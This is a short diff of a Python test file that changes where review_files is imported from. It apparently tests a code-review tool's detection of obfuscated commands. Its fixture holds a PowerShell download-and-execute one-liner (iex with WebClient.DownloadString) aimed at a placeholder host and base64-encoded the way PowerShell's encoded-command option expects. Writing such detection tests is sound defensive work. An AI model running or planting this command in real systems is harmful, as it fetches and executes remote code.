@@ -7,7 +7,7 @@ import base64
 import pytest
 
 from pratique.model import Review
-from pratique.review import review_files
+from pratique.pipeline import review_files
 
 _CODE = "iex (New-Object Net.WebClient).DownloadString('http://a.invalid')"
 ENCODED = base64.b64encode(_CODE.encode("utf-16-le")).decode()
